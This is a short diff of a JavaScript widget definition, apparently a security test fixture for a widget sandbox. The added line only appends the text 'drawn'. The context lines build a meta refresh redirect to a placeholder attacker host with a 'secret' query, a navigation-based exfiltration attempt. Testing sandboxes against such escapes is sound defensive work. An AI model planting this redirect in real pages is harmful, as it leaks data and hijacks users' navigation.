@@ -1,5 +1,6 @@
 vitrine.defineWidget({
   async draw(root) {
+    root.append('drawn');
     const meta = document.createElement('meta');
     meta.httpEquiv = 'refresh';
     meta.content = '0; url=__EVIL__/meta?secret';
